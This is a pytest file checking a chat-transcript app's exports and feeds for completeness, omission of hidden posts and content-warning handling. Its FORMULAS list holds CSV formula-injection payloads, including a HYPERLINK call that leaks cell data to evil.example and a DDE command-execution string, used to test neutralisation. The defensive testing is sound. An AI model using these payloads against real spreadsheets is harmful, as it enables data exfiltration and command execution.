"""Exports: Markdown, self-contained HTML, JSON (with its schema) and CSV, and the
feeds: complete, and never with hidden or withheld posts."""

import csv
import io
import json
from html.parser import HTMLParser

import jsonschema
import markdown as md
import pytest

from transcripts import actions
from transcripts.building import build
from transcripts.exports import as_csv, as_json, markdown, schema
from transcripts.standalone import standalone_html
from transcripts.statistics import compute

VOID = {"br", "hr", "img", "meta", "link", "input", "source", "wbr", "col", "area", "base"}


class StrictParser(HTMLParser):
    """Fails on an end tag that closes nothing or the wrong element."""

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        # <img ... /> (as Markdown writes the chart) opens and closes itself.
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self.stack.pop()

    def handle_endtag(self, tag):
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes {self.stack[-1:]}"
        self.stack.pop()


def parse(html: str) -> StrictParser:
    parser = StrictParser()
    parser.feed(html)
    parser.close()
    assert parser.stack == [], f"unclosed: {parser.stack}"
    return parser


def exports(event):
    built = build(event)
    stats = compute(built)
    return {
        "md": markdown(built, stats),
        "html": standalone_html(built, stats),
        "json": as_json(built, stats),
        "csv": as_csv(built),
    }


def test_the_json_export_validates_against_its_schema(chat):
    data = json.loads(exports(chat.event)["json"])
    jsonschema.Draft202012Validator.check_schema(schema())
    jsonschema.validate(data, schema())
    by_id = {p["id"]: p for p in data["posts"]}
    reply = by_id[str(chat.posts["a1_reply"].id)]
    assert reply["in_reply_to"] == str(chat.posts["a1_pat"].id)
    assert reply["thread_root"] == str(chat.posts["a1_pat"].id)
    hk = by_id[str(chat.posts["a1_hk"].id)]
    assert (hk["in_reply_to"], hk["thread_root"]) == (str(chat.posts["q1"].id),) * 2
    assert reply["question"] == 1 and reply["group"] == "q1"
    assert reply["author"]["handle"] == "olly"
    answer = by_id[str(chat.posts["a1_pat"].id)]
    assert (answer["like_count"], answer["reposts_in_chat"]) == (2, 1)


def test_the_json_export_holds_every_post_but_the_withheld(chat):
    data = json.loads(exports(chat.event)["json"])
    built = build(chat.event)
    expected = {str(i) for i, item in built.items.items() if not item.withheld}
    assert {p["id"] for p in data["posts"]} == expected
    # Olly's reply to Wendy stays, in the place of Wendy's post (the top of a thread).
    orphan = next(p for p in data["posts"] if p["id"] == str(chat.posts["a1_wendy_reply"].id))
    assert (orphan["in_reply_to"], orphan["thread_root"]) == (None, orphan["id"])
    assert (orphan["kind"], orphan["depth"], orphan["group"]) == ("reply", 0, "q1")


def test_the_markdown_renders_to_valid_html(chat, hana):
    actions.set_introduction(
        user=hana.user, event=chat.event, text="A *lively* hour.\n\n<b>Thanks</b> & welcome!"
    )
    actions.set_note(user=hana.user, event=chat.event, group="q1", note="# Not a heading")
    text = exports(chat.event)["md"]
    html = md.markdown(text)
    parser = parse(html)
    assert parser.tags.count("h2") >= 6
    assert "&lt;b&gt;Thanks&lt;/b&gt;" in html
    assert "<em>lively</em>" not in html
    assert '<a href="https://example.org/listen">' in html


def test_the_html_export_is_self_contained(chat):
    html = exports(chat.event)["html"]
    parse(html)
    assert "<style>" in html and "<svg" in html
    assert "<script" not in html and "<link" not in html
    assert 'src="' not in html


def test_the_csv_has_one_row_per_exported_post(chat):
    data = json.loads(exports(chat.event)["json"])
    reader = list(csv.DictReader(io.StringIO(exports(chat.event)["csv"])))
    assert [r["id"] for r in reader] == [p["id"] for p in data["posts"]]
    assert reader[0]["group"] == "welcome"


@pytest.fixture
def hidden(chat, hana):
    actions.mark_post(
        user=hana.user, event=chat.event, post_id=chat.posts["a2_olly"].id, hidden=True
    )
    actions.mark_post(
        user=hana.user, event=chat.event, post_id=chat.posts["a2_olly"].id, highlighted=True
    )
    actions.mark_post(
        user=hana.user, event=chat.event, post_id=chat.posts["a1_wendy"].id, highlighted=True
    )
    return chat


def test_hidden_and_withheld_posts_are_absent_from_every_export(hidden, client):
    chat = hidden
    gone = ["A2 long queues", "Still thinking about this", "secret words", "@wendy", "Wellington"]
    gone += ["example.org/private", "example.org/queues"]
    url = f"/chats/auslibchat/events/{chat.event.id}/transcript/"
    bodies = dict(exports(chat.event))
    for fmt in ("md", "html", "json", "csv"):
        bodies[f"page-{fmt}"] = client.get(url + f"export.{fmt}").content.decode()
        bodies[f"api-{fmt}"] = client.get(
            f"/api/hashchat/v1/events/{chat.event.id}/transcript?format={fmt}"
        ).content.decode()
    for name, body in bodies.items():
        for text in gone:
            assert text.lower() not in body.lower(), (name, text)
        assert "Agreed, listening first" in body, name


def test_hidden_and_withheld_posts_are_absent_from_the_feeds(hidden, client):
    for url in ("/transcripts.atom", "/chats/auslibchat/transcripts.atom"):
        body = client.get(url).content.decode()
        assert "Customer Service" in body
        for text in ("A2 long queues", "secret words", "@wendy"):
            assert text.lower() not in body.lower(), (url, text)


def test_the_page_shows_withheld_posts_without_text_or_handle(chat, client):
    body = client.get(f"/chats/auslibchat/events/{chat.event.id}/transcript/").content.decode()
    assert (
        "Withheld at the author&#x27;s request" in body
        or "Withheld at the author's request" in body
    )
    assert "secret words" not in body and "@wendy" not in body
    assert "Nice one Wendy" in body


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_that_would_run_as_formulas_are_neutralised(chat, pat, text):
    pat.profile.display_name = text
    pat.profile.save(update_fields=["display_name"])
    chat.post("formula", 20, pat, text, reply_to="q1")
    reader = list(csv.DictReader(io.StringIO(exports(chat.event)["csv"])))
    row = next(r for r in reader if r["id"] == str(chat.posts["formula"].id))
    pat.profile.refresh_from_db()
    stored = {"text": chat.posts["formula"].text, "author_name": pat.profile.display_name}
    for column, value in stored.items():
        assert row[column] == "'" + value
    # Ordinary text and numbers are untouched.
    assert row["author_handle"] == "pat" and row["depth"].isdigit()
    assert not any(r["text"].startswith("'") for r in reader if r["id"] != row["id"])


def test_a_post_under_a_content_warning_is_folded_on_the_page_and_in_every_export(chat, client):
    post = chat.posts["a2_olly"]
    type(post).objects.filter(pk=post.id).update(spoiler_text="Queues <and> waiting")
    body = client.get(f"/chats/auslibchat/events/{chat.event.id}/transcript/").content.decode()
    folded = body.split(f'id="p{post.id}"', 1)[1].split("</article>", 1)[0]
    assert '<details class="content-warning"><summary>Queues &lt;and&gt; waiting</summary>' in (
        folded
    )
    assert folded.index("</summary>") < folded.index("A2 long queues") < folded.index("</details>")
    out = exports(chat.event)
    html = out["html"]
    parse(html)
    assert '<details class="t-warning"><summary>Queues &lt;and&gt; waiting</summary>' in html
    data = json.loads(out["json"])
    jsonschema.validate(data, schema())
    warned = {p["id"]: p["spoiler_text"] for p in data["posts"] if p["spoiler_text"]}
    assert warned == {str(post.id): "Queues <and> waiting"}
    # Markdown cannot fold: the warning comes before the text, shown as typed.
    rendered = md.markdown(out["md"])
    assert "<em>Content warning: Queues &lt;and&gt; waiting</em>: A2 long queues" in rendered
    reader = list(csv.DictReader(io.StringIO(out["csv"])))
    assert {r["id"]: r["content_warning"] for r in reader if r["content_warning"]} == warned
